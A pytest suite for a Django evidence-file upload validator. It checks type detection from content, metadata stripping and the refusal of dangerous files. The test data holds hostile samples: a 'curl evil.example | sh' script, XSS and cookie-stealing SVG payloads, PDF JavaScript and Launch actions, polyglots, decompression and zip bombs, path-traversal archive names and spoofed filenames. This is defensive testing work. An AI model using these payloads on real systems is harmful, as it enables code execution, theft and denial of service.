"""Evidence uploads: type from the content, clean copies, and clear refusals.

Every file here is made by the test (nothing fetched): real PDFs (reportlab,
pypdf), images (Pillow, pillow_heif), office documents (zipfile) and video boxes.
"""

import io
import re
import struct
import zipfile
import zlib

from django import forms
from django.core.exceptions import ValidationError
from django.core.files import File
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation

import pillow_heif
import pypdf
import pytest
from PIL import ExifTags, Image, ImageCms, PngImagePlugin
from pypdf.actions import JavaScript
from reportlab.pdfgen import canvas

from validation.files import (
    ACCEPT,
    ERR_EMPTY,
    ERR_EXECUTABLE,
    ERR_HIDDEN_FILE,
    ERR_IMAGE_DAMAGED,
    ERR_IMAGE_TOO_MANY_PIXELS,
    ERR_MARKUP,
    ERR_OFFICE_DAMAGED,
    ERR_OFFICE_MACROS,
    ERR_OFFICE_TOO_LARGE_UNPACKED,
    ERR_OFFICE_UNSAFE_NAMES,
    ERR_PDF_ACTIVE_CONTENT,
    ERR_PDF_DAMAGED,
    ERR_PDF_ENCRYPTED,
    ERR_TOO_BIG,
    ERR_TYPE_NOT_ALLOWED,
    ERR_VIDEO_DAMAGED,
    CheckedFile,
    EvidenceFileField,
    EvidenceFileKind,
    evidence_display_name,
    evidence_file_check,
)

STORED_NAME = re.compile(r"^[0-9a-f]{32}\.(?P<extension>[a-z0-9]+)$")
ALLOWED_EN = (
    "PDF, photos (JPEG, PNG, WebP, HEIC), office documents (.docx, .xlsx, .pptx, "
    ".odt), short videos (MP4, MOV, WebM)"
)


@pytest.fixture(autouse=True)
def english():
    with translation.override("en"):
        yield


# The corpus -------------------------------------------------------------------


def upload(content: bytes, name: str = "evidence", content_type: str = ""):
    """What Django's upload handler gives a view; the claimed type is ignored."""
    return SimpleUploadedFile(name, content, content_type=content_type)


def pdf(text: str = "Evidence of work") -> bytes:
    buffer = io.BytesIO()
    page = canvas.Canvas(buffer)
    page.drawString(72, 720, text)
    page.showPage()
    page.save()
    return buffer.getvalue()


def pdf_with_body(body: bytes) -> bytes:
    """A valid PDF with `body` placed before its final %%EOF (incremental-update
    style), which is where polyglots and injected objects go."""
    data = pdf().rstrip()
    end = data.rfind(b"%%EOF")
    return data[:end] + body + b"\n%%EOF\n"


def pypdf_writer() -> pypdf.PdfWriter:
    writer = pypdf.PdfWriter()
    writer.append(io.BytesIO(pdf()))
    return writer


def written(writer: pypdf.PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def zip_bytes(members, compression=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return buffer.getvalue()


def content_types(main: str, *extra: str) -> bytes:
    overrides = "".join(
        f'<Override PartName="/part{i}" ContentType="{value}"/>'
        for i, value in enumerate(extra)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/main.xml" ContentType="{main}"/>'
        f"{overrides}</Types>"
    ).encode()


DOCX_MAIN = (
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
)
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
RELS = b'<?xml version="1.0"?><Relationships/>'


def docx(*extra_members, main=DOCX_MAIN, extra_types=()) -> bytes:
    return zip_bytes(
        [
            ("[Content_Types].xml", content_types(main, *extra_types)),
            ("_rels/.rels", RELS),
            ("word/document.xml", b"<w:document><w:body>Hello</w:body></w:document>"),
            *extra_members,
        ]
    )


def xlsx() -> bytes:
    return zip_bytes(
        [
            ("[Content_Types].xml", content_types(XLSX_MAIN)),
            ("_rels/.rels", RELS),
            ("xl/workbook.xml", b"<workbook/>"),
            ("xl/worksheets/sheet1.xml", b"<worksheet/>"),
        ]
    )


def odt() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(
            "mimetype",
            "application/vnd.oasis.opendocument.text",
            compress_type=zipfile.ZIP_STORED,
        )
        archive.writestr("content.xml", "<office:document-content/>")
        archive.writestr("META-INF/manifest.xml", "<manifest:manifest/>")
    return buffer.getvalue()


def image_bytes(image: Image.Image, format: str, **params) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, format=format, **params)
    return buffer.getvalue()


def phone_photo() -> bytes:
    """A JPEG as phones write them: GPS position, camera make, turned by EXIF."""
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "PhoneMaker"
    exif[ExifTags.Base.Orientation] = 6  # stored sideways: turn 90° clockwise
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (59.0, 54.0, 47.0)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (10.0, 45.0, 12.0)
    return image_bytes(Image.new("RGB", (40, 20), (200, 30, 30)), "JPEG", exif=exif)


def png_chunk(kind: bytes, payload: bytes) -> bytes:
    return (
        struct.pack(">I", len(payload))
        + kind
        + payload
        + struct.pack(">I", zlib.crc32(kind + payload))
    )


def black_png(width: int, height: int) -> bytes:
    """A real 1-bit PNG of `width` × `height`, compressed row by row: a
    decompression bomb of a few hundred kilobytes."""
    compressor = zlib.compressobj(9)
    row = bytes(1 + (width + 7) // 8)
    idat = b"".join(compressor.compress(row) for _ in range(height))
    idat += compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", idat)
        + png_chunk(b"IEND", b"")
    )


def box(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def mp4(brand: bytes = b"isom", compatible: bytes = b"isomiso2avc1mp41") -> bytes:
    ftyp = box(b"ftyp", brand + struct.pack(">I", 512) + compatible)
    return ftyp + box(b"moov", box(b"mvhd", bytes(100))) + box(b"mdat", bytes(2000))


def webm() -> bytes:
    ebml = b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01\x42\xf7\x81\x01\x42\x82\x84webm"
    return ebml + b"\x42\x87\x81\x04\x42\x85\x81\x02" + bytes(500)


# Helpers ----------------------------------------------------------------------


def refusal(content: bytes, name: str = "evidence") -> ValidationError:
    with pytest.raises(ValidationError) as caught:
        evidence_file_check(upload=upload(content, name))
    return caught.value


def assert_refused(content, message, *, name="evidence", code=None, **params):
    error = refusal(content, name)
    expected = str(message) % params if params else str(message)
    assert error.messages == [expected]
    if code:
        assert error.code == code


def stored(checked: CheckedFile) -> bytes:
    checked.content.seek(0)
    return checked.content.read()


# Accepted files ---------------------------------------------------------------


def test_a_pdf_is_kept_as_it_is_under_a_generated_name():
    data = pdf()
    checked = evidence_file_check(
        upload=upload(data, "../../Mitt arbeid.pdf", "image/png")
    )
    assert checked.kind == EvidenceFileKind.PDF
    assert checked.content_type == "application/pdf"
    assert checked.extension == "pdf"
    assert checked.size == len(data)
    assert stored(checked) == data
    assert STORED_NAME.match(checked.content.name)["extension"] == "pdf"
    assert checked.original_name == "Mitt arbeid.pdf"
    assert checked.sha256 == __import__("hashlib").sha256(data).hexdigest()


def test_a_phone_photo_loses_its_gps_position_and_stands_upright():
    original = phone_photo()
    assert Image.open(io.BytesIO(original)).getexif().get_ifd(ExifTags.IFD.GPSInfo)

    checked = evidence_file_check(upload=upload(original, "IMG_0001.JPG"))

    data = stored(checked)
    assert data != original
    cleaned = Image.open(io.BytesIO(data))
    assert cleaned.format == "JPEG"
    assert cleaned.size == (20, 40)  # turned by the orientation, then dropped
    assert dict(cleaned.getexif()) == {}
    assert "exif" not in cleaned.info
    assert b"Exif" not in data
    assert b"PhoneMaker" not in data
    assert checked.kind == EvidenceFileKind.IMAGE
    assert (checked.content_type, checked.extension) == ("image/jpeg", "jpg")
    assert checked.size == len(data)
    assert checked.original_name == "IMG_0001.jpg"


def test_a_png_loses_its_text_and_what_was_appended_after_it():
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "home address: Storgata 1")
    original = image_bytes(
        Image.new("RGBA", (30, 30), (0, 0, 255, 128)), "PNG", pnginfo=info
    ) + zip_bytes([("payload.exe", b"MZ")])

    checked = evidence_file_check(upload=upload(original, "skjerm.png"))

    data = stored(checked)
    assert data != original
    assert b"Storgata" not in data
    assert b"PK\x03\x04" not in data
    cleaned = Image.open(io.BytesIO(data))
    assert (cleaned.format, cleaned.mode, cleaned.size) == ("PNG", "RGBA", (30, 30))
    assert cleaned.getpixel((0, 0)) == (0, 0, 255, 128)


def test_colours_are_converted_to_srgb_and_the_profile_dropped():
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    original = image_bytes(
        Image.new("RGB", (10, 10), (250, 0, 0)), "PNG", icc_profile=profile
    )
    data = stored(evidence_file_check(upload=upload(original, "farge.png")))
    cleaned = Image.open(io.BytesIO(data))
    assert "icc_profile" not in cleaned.info
    assert cleaned.getpixel((0, 0)) == (250, 0, 0)


def test_a_webp_is_re_encoded_as_webp():
    original = image_bytes(Image.new("RGB", (20, 20), (0, 128, 0)), "WEBP")
    checked = evidence_file_check(upload=upload(original, "bilde.webp"))
    assert (checked.content_type, checked.extension) == ("image/webp", "webp")
    assert Image.open(io.BytesIO(stored(checked))).format == "WEBP"


def test_an_iphone_heic_photo_becomes_an_upright_jpeg_without_its_position():
    pillow_heif.register_heif_opener()
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    exif.get_ifd(ExifTags.IFD.GPSInfo)[ExifTags.GPS.GPSLatitude] = (59.0, 54.0, 47.0)
    original = image_bytes(
        Image.new("RGB", (64, 48), (10, 200, 30)), "HEIF", exif=exif.tobytes()
    )
    assert original[4:12] == b"ftypheic"

    checked = evidence_file_check(upload=upload(original, "IMG_0002.HEIC"))

    assert (checked.content_type, checked.extension) == ("image/jpeg", "jpg")
    data = stored(checked)
    cleaned = Image.open(io.BytesIO(data))
    assert (cleaned.format, cleaned.size) == ("JPEG", (48, 64))  # turned once
    assert dict(cleaned.getexif()) == {}
    assert b"Exif" not in data
    assert checked.original_name == "IMG_0002.jpg"


def test_large_photos_are_scaled_to_the_longest_edge_setting(settings):
    settings.EVIDENCE_IMAGE_MAX_EDGE = 100
    original = image_bytes(Image.new("RGB", (800, 400), (1, 2, 3)), "JPEG")
    checked = evidence_file_check(upload=upload(original, "tavle.jpg"))
    assert Image.open(io.BytesIO(stored(checked))).size == (100, 50)


@pytest.mark.parametrize(
    ("make", "extension", "content_type"),
    [
        (
            docx,
            "docx",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        (
            xlsx,
            "xlsx",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        ),
        (odt, "odt", "application/vnd.oasis.opendocument.text"),
    ],
)
def test_office_documents_are_told_apart_by_their_parts(make, extension, content_type):
    data = make()
    checked = evidence_file_check(upload=upload(data, "rapport.zip"))
    assert checked.kind == EvidenceFileKind.OFFICE
    assert (checked.extension, checked.content_type) == (extension, content_type)
    assert stored(checked) == data
    assert checked.original_name == f"rapport.{extension}"
    assert STORED_NAME.match(checked.content.name)["extension"] == extension


@pytest.mark.parametrize(
    ("data", "extension", "content_type"),
    [
        (mp4(), "mp4", "video/mp4"),
        (mp4(b"qt  ", b"qt  "), "mov", "video/quicktime"),  # as iPhones write
        (webm(), "webm", "video/webm"),
    ],
)
def test_short_videos_are_kept_as_they_are(data, extension, content_type):
    checked = evidence_file_check(upload=upload(data, "video.bin"))
    assert checked.kind == EvidenceFileKind.VIDEO
    assert (checked.extension, checked.content_type) == (extension, content_type)
    assert checked.size == len(data)
    assert stored(checked) == data


# Refused: size and type -------------------------------------------------------


def test_an_empty_file_is_refused():
    assert_refused(b"", ERR_EMPTY, code="empty")
    assert str(ERR_EMPTY) == "The file is empty. Choose the file again and upload it."


def test_a_file_over_its_kinds_limit_is_refused_with_the_limit_in_mb(settings):
    settings.EVIDENCE_MAX_BYTES = {**settings.EVIDENCE_MAX_BYTES, "pdf": 1024 * 1024}
    data = pdf_with_body(b"%" + b"x" * (1024 * 1024))
    error = refusal(data)
    assert error.messages == ["The file is too big: PDF documents may be at most 1 MB."]
    assert error.code == "too_big"


def test_the_size_is_counted_and_no_more_than_the_limit_plus_one_byte_read(settings):
    """A file object that does not say its size (or says it wrong) is still
    stopped after limit + 1 bytes."""
    limit = 64 * 1024
    settings.EVIDENCE_MAX_BYTES = {**settings.EVIDENCE_MAX_BYTES, "video": limit}

    class Watched(io.BytesIO):
        furthest = 0

        def read(self, size=-1):
            data = super().read(size)
            Watched.furthest = max(Watched.furthest, self.tell())
            return data

    data = mp4() + box(b"free", bytes(10 * limit))
    lying = File(Watched(data), name="film.mp4")
    lying.size = 100
    with pytest.raises(ValidationError) as caught:
        evidence_file_check(upload=lying)
    assert caught.value.messages == [
        str(ERR_TOO_BIG) % {"kind": "videos", "limit": "0.1"}
    ]
    assert Watched.furthest == limit + 1


@pytest.mark.parametrize(
    "data",
    [
        b"Just some text, saved as .pdf\n",
        b"GIF89a" + bytes(100),
        zip_bytes([("notes.txt", b"hello")]),
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),  # old Word/Excel (OLE)
    ],
    ids=["text", "gif", "plain zip", "ole"],
)
def test_other_kinds_of_file_are_refused_saying_what_is_accepted(data):
    assert_refused(data, ERR_TYPE_NOT_ALLOWED, name="report.pdf", allowed=ALLOWED_EN)


def test_the_accepted_list_follows_the_allowed_kinds_setting(settings):
    settings.EVIDENCE_ALLOWED_KINDS = ("pdf", "image")
    assert_refused(
        mp4(), ERR_TYPE_NOT_ALLOWED, allowed="PDF, photos (JPEG, PNG, WebP, HEIC)"
    )


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (
            b"MZ\x90\x00" + bytes(60) + b"This program cannot be run in DOS mode.",
            "report.pdf",
        ),
        (b"\x7fELF\x02\x01\x01" + bytes(100), "photo.jpg"),
        (b"#!/bin/sh\ncurl evil.example | sh\n", "photo.jpg"),
        (b"\xcf\xfa\xed\xfe" + bytes(100), "notes.docx"),
    ],
    ids=["exe named pdf", "elf", "shebang script", "mach-o"],
)
def test_programs_are_refused_whatever_their_name(data, name):
    assert_refused(data, ERR_EXECUTABLE, name=name, code="executable")


@pytest.mark.parametrize(
    "data",
    [
        b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg">'
        b"<script>alert(document.cookie)</script></svg>",
        b'  <svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    ],
    ids=["html", "svg with script", "bare svg"],
)
def test_web_pages_and_svg_are_refused(data):
    assert_refused(data, ERR_MARKUP, name="drawing.png", code="markup")


# Refused: PDFs ----------------------------------------------------------------


def test_a_pdf_with_javascript_is_refused():
    writer = pypdf_writer()
    writer.add_open_action(JavaScript("app.alert('hi')"))
    assert_refused(written(writer), ERR_PDF_ACTIVE_CONTENT, code="pdf_active_content")


def test_a_pdf_with_an_embedded_file_is_refused():
    writer = pypdf_writer()
    writer.add_attachment("invoice.exe", b"MZ-not-really")
    assert_refused(written(writer), ERR_PDF_ACTIVE_CONTENT)


@pytest.mark.parametrize(
    "body",
    [
        b"9 0 obj <</S/J#61vaScript/JS(app.alert(1))>> endobj\n",  # escaped name
        b"9 0 obj <</Type/Action/S/Launch/F(cmd.exe)>> endobj\n",
        b"9 0 obj <</AcroForm <</XFA 10 0 R>> >> endobj\n",
        b"9 0 obj <</Type/Annot/Subtype/RichMedia>> endobj\n",
        b"9 0 obj <</OpenAction <</S/Named/N/Print/JS 11 0 R>> >> endobj\n",
    ],
    ids=["escaped javascript", "launch", "xfa", "rich media", "js"],
)
def test_a_pdf_with_active_content_by_any_spelling_is_refused(body):
    assert_refused(pdf_with_body(body), ERR_PDF_ACTIVE_CONTENT)


def test_javascript_hidden_in_a_compressed_object_stream_is_found():
    hidden = zlib.compress(b"11 0 <</S/JavaScr#69pt/JS(app.alert(1))>>")
    body = (
        b"10 0 obj <</Type/ObjStm/N 1/First 5/Filter/FlateDecode/Length "
        + str(len(hidden)).encode()
        + b">>\nstream\n"
        + hidden
        + b"\nendstream\nendobj\n"
    )
    assert_refused(pdf_with_body(body), ERR_PDF_ACTIVE_CONTENT)


def test_an_encrypted_pdf_is_refused():
    writer = pypdf_writer()
    writer.encrypt("secret")
    assert_refused(written(writer), ERR_PDF_ENCRYPTED, code="pdf_encrypted")


def test_a_pdf_with_a_zip_inside_is_refused():
    polyglot = pdf_with_body(zip_bytes([("run.bat", b"format c:")]))
    assert zipfile.is_zipfile(io.BytesIO(polyglot))  # it really is both
    assert_refused(polyglot, ERR_HIDDEN_FILE, code="hidden_file")


@pytest.mark.parametrize(
    "body",
    [
        b"%<html><script>alert(1)</script></html>\n",
        b"%MZ\x90\x00This program cannot be run in DOS mode.\n",
    ],
    ids=["html", "exe"],
)
def test_a_pdf_with_another_format_inside_is_refused(body):
    assert_refused(pdf_with_body(body), ERR_HIDDEN_FILE)


def test_a_truncated_pdf_is_refused():
    data = pdf()
    assert_refused(data[: len(data) // 2], ERR_PDF_DAMAGED, code="pdf_damaged")


# Refused: images --------------------------------------------------------------


def test_a_decompression_bomb_is_refused_before_it_is_decoded():
    bomb = black_png(12_000, 12_000)  # 144 megapixels in ~20 kB
    assert len(bomb) < 100_000
    assert_refused(bomb, ERR_IMAGE_TOO_MANY_PIXELS, code="too_many_pixels", limit="50")


def test_a_bomb_past_pillows_own_limit_is_refused_with_the_same_message():
    assert_refused(black_png(30_000, 30_000), ERR_IMAGE_TOO_MANY_PIXELS, limit="50")


def test_a_pixel_flood_header_is_refused():
    """A 1×1 picture whose header claims 100,000 × 100,000 pixels."""
    data = bytearray(image_bytes(Image.new("L", (1, 1)), "PNG"))
    header = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 0, 0, 0, 0)
    data[16:29] = header
    data[29:33] = struct.pack(">I", zlib.crc32(b"IHDR" + header))
    assert_refused(bytes(data), ERR_IMAGE_TOO_MANY_PIXELS, limit="50")


def test_the_pixel_limit_is_a_setting(settings):
    settings.EVIDENCE_MAX_IMAGE_PIXELS = 1_000_000
    photo = image_bytes(Image.new("RGB", (1001, 1000)), "JPEG")
    assert_refused(photo, ERR_IMAGE_TOO_MANY_PIXELS, limit="1")


def test_a_damaged_image_is_refused():
    noise = Image.frombytes("RGB", (200, 200), bytes(range(256)) * 468 + bytes(192))
    data = image_bytes(noise, "PNG")
    assert_refused(data[: len(data) // 2], ERR_IMAGE_DAMAGED, code="image_damaged")


# Refused: office documents ----------------------------------------------------


def test_a_zip_bomb_docx_is_refused():
    bomb = docx(("word/media/big.xml", bytes(60 * 1024 * 1024)))
    assert len(bomb) < 200_000
    assert_refused(
        bomb,
        ERR_OFFICE_TOO_LARGE_UNPACKED,
        code="office_too_large_unpacked",
        limit="200",
    )


def test_the_unpacked_size_limit_is_a_setting(settings):
    settings.EVIDENCE_OFFICE_MAX_UNPACKED_BYTES = 1024 * 1024
    photo = image_bytes(Image.new("RGB", (1000, 1000)), "BMP")  # 3 MB, packs well
    data = docx(("word/media/photo.bmp", photo))
    assert_refused(data, ERR_OFFICE_TOO_LARGE_UNPACKED, limit="1")


def test_a_part_that_unpacks_to_more_than_its_header_says_is_refused():
    data = bytearray(docx(("word/media/big.bin", bytes(1024 * 1024))))
    # Make both headers of the part claim 1,000 bytes instead of 1 MB.
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        for match in re.finditer(re.escape(signature), data):
            start = match.start()
            if struct.unpack_from("<I", data, start + offset)[0] == 1024 * 1024:
                struct.pack_into("<I", data, start + offset, 1000)
    assert_refused(bytes(data), ERR_OFFICE_DAMAGED, code="office_damaged")


@pytest.mark.parametrize(
    "member",
    ["../../evil.sh", "/etc/cron.d/evil", "word\\..\\..\\evil.bat", "C:/evil.bat"],
)
def test_a_document_with_a_part_that_climbs_out_is_refused(member):
    assert_refused(
        docx((member, b"boom")), ERR_OFFICE_UNSAFE_NAMES, code="office_unsafe_names"
    )


def test_a_word_document_with_macros_is_refused():
    docm = docx(
        ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0macro"),
        main="application/vnd.ms-word.document.macroEnabled.main+xml",
        extra_types=("application/vnd.ms-office.vbaProject",),
    )
    assert_refused(docm, ERR_OFFICE_MACROS, name="rapport.docx", code="office_macros")


def test_a_macro_enabled_content_type_alone_is_refused():
    xlsm = docx(main="application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    assert_refused(xlsm, ERR_OFFICE_MACROS)


def test_an_embedded_ole_program_is_refused():
    data = docx(("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0package"))
    assert_refused(data, ERR_OFFICE_MACROS)


def test_charts_and_smartart_content_types_are_not_mistaken_for_macros():
    data = docx(
        extra_types=(
            "application/vnd.ms-office.chartstyle+xml",
            "application/vnd.ms-office.drawingml.diagramDrawing+xml",
        )
    )
    assert evidence_file_check(upload=upload(data)).extension == "docx"


# Refused: video ---------------------------------------------------------------


def test_a_video_with_a_file_appended_is_refused():
    data = mp4() + zip_bytes([("payload.exe", b"MZ")])
    assert_refused(data, ERR_VIDEO_DAMAGED, code="video_damaged")


def test_a_truncated_video_is_refused():
    assert_refused(mp4()[:-100], ERR_VIDEO_DAMAGED)


# Names ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("..\\..\\Windows\\rapport.pdf", "rapport.pdf"),
        ("rap\x00port\x07.pdf", "rapport.pdf"),
        ("faktura\u202efdp.exe", "fakturafdp.pdf"),  # shows as "fakturaexe.pdf"
        ("a\u200bb\u2066c\u2069.pdf", "abc.pdf"),
        ("bilde.jpg", "bilde.pdf"),  # the content decides the extension
        ("  .. ", "evidence.pdf"),
        ("", "evidence.pdf"),
        ("Mitt   arbeid\t2024.PDF", "Mitt arbeid 2024.pdf"),
    ],
)
def test_display_names_are_made_safe(name, shown):
    assert evidence_display_name(name, extension="pdf") == shown


def test_a_long_name_is_cut_to_100_characters_keeping_the_extension():
    shown = evidence_display_name("å" * 300 + ".pdf", extension="pdf")
    assert len(shown) == 100
    assert shown == "å" * 96 + ".pdf"


def test_the_uploaded_name_goes_through_the_same_cleaning():
    checked = evidence_file_check(upload=upload(pdf(), "bilde\u202egnp.exe"))
    assert checked.original_name == "bildegnp.pdf"
    assert "bilde" not in checked.content.name


# The form field ---------------------------------------------------------------


class EvidenceForm(forms.Form):
    file = EvidenceFileField()


def test_the_form_field_cleans_to_a_checked_file():
    form = EvidenceForm(files={"file": upload(phone_photo(), "IMG.jpg", "image/jpeg")})
    assert form.is_valid(), form.errors
    assert isinstance(form.cleaned_data["file"], CheckedFile)
    assert form.cleaned_data["file"].extension == "jpg"


@pytest.mark.parametrize(
    ("data", "message"),
    [(b"", ERR_EMPTY), (b"MZ" + bytes(100), ERR_EXECUTABLE)],
    ids=["empty", "exe"],
)
def test_the_form_field_shows_the_refusal_next_to_the_field(data, message):
    form = EvidenceForm(files={"file": upload(data, "rapport.pdf", "application/pdf")})
    assert not form.is_valid()
    assert form.errors["file"] == [str(message)]


def test_the_form_field_filters_the_chooser_but_does_not_force_the_camera():
    html = str(EvidenceForm()["file"])
    assert f'accept="{ACCEPT}"' in html
    assert ACCEPT == "image/*,application/pdf,video/*,.docx,.xlsx,.pptx,.odt"
    assert "capture" not in html
